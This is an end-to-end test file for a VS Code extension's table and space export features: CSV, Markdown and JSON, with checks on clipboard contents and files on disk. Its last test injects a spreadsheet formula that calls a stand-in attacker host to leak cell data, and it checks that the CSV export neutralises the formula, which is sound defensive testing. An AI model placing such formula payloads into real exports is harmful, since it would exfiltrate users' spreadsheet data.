// Issue 21, export, in the real workbench with the packaged VSIX, as a user does it: a panel table filtered and
// sorted, then Save as CSV… (VS Code's own save dialog: the path typed, Enter) read back from disk, Copy as
// CSV and Copy as Markdown read back from the browser's clipboard, and Export Spaces… from an account's menu
// (the format picked, the path typed) read back from disk, with no request sent for it: a vendor's formula as
// text in the CSV, as the vendor wrote it in the JSON.
import { before, describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { OPENLAYER_SEED_WORKSPACE } from '../../out/sandbox/index.js';
import { eventually } from '../harness/wait.mjs';
import { DRIFTED_WORKSPACE, group, usePanelWorkbench } from './panel-support.mjs';
/** @typedef {import('../harness/workbench.mjs').Session} Session */

const README_FOLDER = process.env.SPACES_README_SCREENSHOTS;

/** The text of a file once it has been written. */
const written = (file) => eventually(() => (existsSync(file) ? readFileSync(file, 'utf8') : ''), (text) => text.length > 0, `${file} to be written`);

describe('export in the workbench (packaged VSIX)', () => {
  const workbench = usePanelWorkbench();
  const { openFromTree, panelShowing } = workbench;
  /** @type {Session['sandbox']} */ let sandbox;
  /** @type {Session['server']} */ let server;
  /** @type {Session['page']} */ let page;
  /** @type {Session['ui']} */ let ui;
  before(async () => {
    ({ sandbox, server, page, ui } = workbench.session);
    // The page reads what the workbench put on the clipboard, as a paste would.
    await workbench.session.browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(server.url).origin });
  });

  /**
   * In VS Code's own save dialog (in a browser, a path in the quick input): once it shows the name it suggests,
   * in the workspace folder, a name typed over it, in the same folder, and Enter. (A path in another folder
   * takes a second Enter: the first opens the folder.)
   */
  async function saveAs(suggested, name) {
    await eventually(() => ui.input().inputValue(), (value) => value === path.join(server.paths.workspace, suggested), `the dialog to suggest ${suggested}`);
    const file = path.join(server.paths.workspace, name);
    await ui.input().fill(file);
    await ui.input().press('Enter');
    await ui.closed();
    return file;
  }

  /** The Wide space's Blueprints table, filtered to "blueprint 499" (15 of 5,000) and sorted by name. */
  async function filteredBlueprints() {
    await openFromTree('Process design', 'Wide space');
    const frame = await panelShowing('Wide space');
    const blueprints = group(frame, 'Blueprints');
    await blueprints.getByRole('searchbox', { name: 'Filter Blueprints' }).fill('blueprint 499');
    await blueprints.locator('.shown', { hasText: /^15 of 5,000$/ }).waitFor();
    // A header click cycles ascending, descending, unsorted; the panel keeps its table's sort between tests.
    const name = blueprints.locator('thead th').first();
    for (let clicks = 0; (await name.getAttribute('aria-sort')) !== 'ascending'; clicks++) {
      assert.ok(clicks < 3, 'the name column would not sort ascending');
      const before = await name.getAttribute('aria-sort');
      await name.getByRole('button').click();
      await eventually(() => name.getAttribute('aria-sort'), (sort) => sort !== before, 'the sort to change');
    }
    return blueprints;
  }

  /** The names in a CSV's first column, after its header. */
  const firstColumn = (lines) => lines.slice(1).map((line) => line.split(',')[0]);
  /** Every blueprint whose name holds "499" (no other value does), as people read numbers: 499, 1499 … 4499, 4990 … 4999. */
  const expectedNames = ['blueprint 499', 'blueprint 1499', 'blueprint 2499', 'blueprint 3499', 'blueprint 4499', ...Array.from({ length: 10 }, (_, i) => `blueprint ${4990 + i}`)];

  it('Save as CSV… writes the rows the table shows, in its order, where the user types: RFC 4180, with a byte order mark', async () => {
    const blueprints = await filteredBlueprints();
    const toolbar = blueprints.getByRole('toolbar', { name: 'Export Blueprints' });
    // The table's header with its export buttons and the first rows (the README's picture), a margin around.
    const box = await blueprints.boundingBox();
    const clip = { x: box.x - 12, y: box.y - 12, width: box.width + 24, height: Math.min(box.height, 260) + 12 };
    await ui.shot('export-table', { clip });
    if (README_FOLDER) await page.screenshot({ path: path.join(README_FOLDER, 'export.png'), clip });
    await toolbar.getByRole('button', { name: 'Save as CSV…' }).click();
    await ui.step('Save Blueprints as CSV');
    const csv = await written(await saveAs('Wide space - Blueprints.csv', 'blueprints.csv'));
    assert.ok(csv.startsWith('\uFEFFName,'), 'a byte order mark, then the header');
    const lines = csv.slice(1).split('\r\n');
    assert.equal(lines.pop(), '', 'every record ends with CRLF');
    assert.equal(lines.length, 1 + 15);
    assert.deepEqual(firstColumn(lines), expectedNames);
    assert.ok(!csv.replace(/\r\n/g, '').includes('\n'), 'no bare line feed');
  });

  it('Copy as CSV and Copy as Markdown put the same rows on the clipboard', async () => {
    const blueprints = await filteredBlueprints();
    const toolbar = blueprints.getByRole('toolbar', { name: 'Export Blueprints' });
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    await page.evaluate(() => navigator.clipboard.writeText('before'));

    await toolbar.getByRole('button', { name: 'Copy as CSV' }).click();
    const csv = await eventually(clipboard, (text) => text.startsWith('Name,'), 'the CSV on the clipboard');
    const lines = csv.split('\r\n');
    assert.equal(lines.pop(), '');
    assert.deepEqual(firstColumn(lines), expectedNames);

    await toolbar.getByRole('button', { name: 'Copy as Markdown' }).click();
    const markdown = await eventually(clipboard, (text) => text.startsWith('| Name |'), 'the Markdown table on the clipboard');
    const rows = markdown.trimEnd().split('\n');
    assert.match(rows[1], /^\| --- \|/);
    assert.deepEqual(rows.slice(2).map((row) => row.split(' | ')[0].slice(2)), expectedNames);
  });

  it("Export Spaces… in an account's menu: the format picked, the path typed, what the tree knows written, nothing fetched for it", async () => {
    const account = ui.accountRow('Process design');
    await ui.expand(account);
    await ui.spaceRow('Wide space').waitFor({ timeout: 20_000 });
    await ui.spaceRow('My Space').waitFor({ timeout: 20_000 });
    const requests = sandbox.requests;
    await ui.contextMenu(account, 'Export Spaces…');
    await ui.placeholder('Export as');
    await ui.option(/^CSV/).click();
    await ui.step('Export the spaces of Process design');
    const csv = await written(await saveAs('Process design spaces.csv', 'process-design.csv'));
    const lines = csv.slice(1).split('\r\n');
    assert.equal(lines[0], 'Name,ID,Status,Vendor,Account');
    assert.ok(lines.includes('Wide space,wide-space,Active,IBM Blueworks Live,Process design'), lines.join('\n'));
    assert.ok(lines.some((line) => line.startsWith('My Space,1310cb,')), lines.join('\n'));
    assert.equal(sandbox.requests, requests, 'no request for the export');
  });

  it('Export Spaces…: a name a vendor wrote as a formula is text in the CSV, and as written in the JSON', async () => {
    // The workspace's answer names it with a spreadsheet formula that would fetch a link.
    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Details")';
    sandbox.addFault({ path: `/v1/workspaces/${DRIFTED_WORKSPACE}`, kind: 'status', status: 200, body: { ...OPENLAYER_SEED_WORKSPACE, id: DRIFTED_WORKSPACE, name: formula } });
    const account = ui.accountRow('Drifted workspace');
    try {
      await ui.expand(account);
      await ui.spaceRow(formula).waitFor({ timeout: 20_000 });

      await ui.contextMenu(account, 'Export Spaces…');
      await ui.placeholder('Export as');
      await ui.option(/^CSV/).click();
      await ui.step('Export the spaces of Drifted workspace');
      const csv = await written(await saveAs('Drifted workspace spaces.csv', 'drifted.csv'));
      // A leading ' and quotes: a spreadsheet shows the text and runs nothing.
      assert.equal(csv, `\uFEFFName,ID,Status,Vendor,Account\r\n"'=HYPERLINK(""https://evil.example/?q=""&A1,""Details"")",${DRIFTED_WORKSPACE},Active,Openlayer,Drifted workspace\r\n`);

      await ui.contextMenu(account, 'Export Spaces…');
      await ui.placeholder('Export as');
      await ui.option(/^JSON/).click();
      await ui.step('Export the spaces of Drifted workspace');
      const json = await written(await saveAs('Drifted workspace spaces.json', 'drifted.json'));
      assert.deepEqual(JSON.parse(json), [{ name: formula, id: DRIFTED_WORKSPACE, status: 'Active', vendor: 'Openlayer', account: 'Drifted workspace' }]);
    } finally {
      sandbox.clearFaults();
      await ui.collapse(account);
    }
  });
});
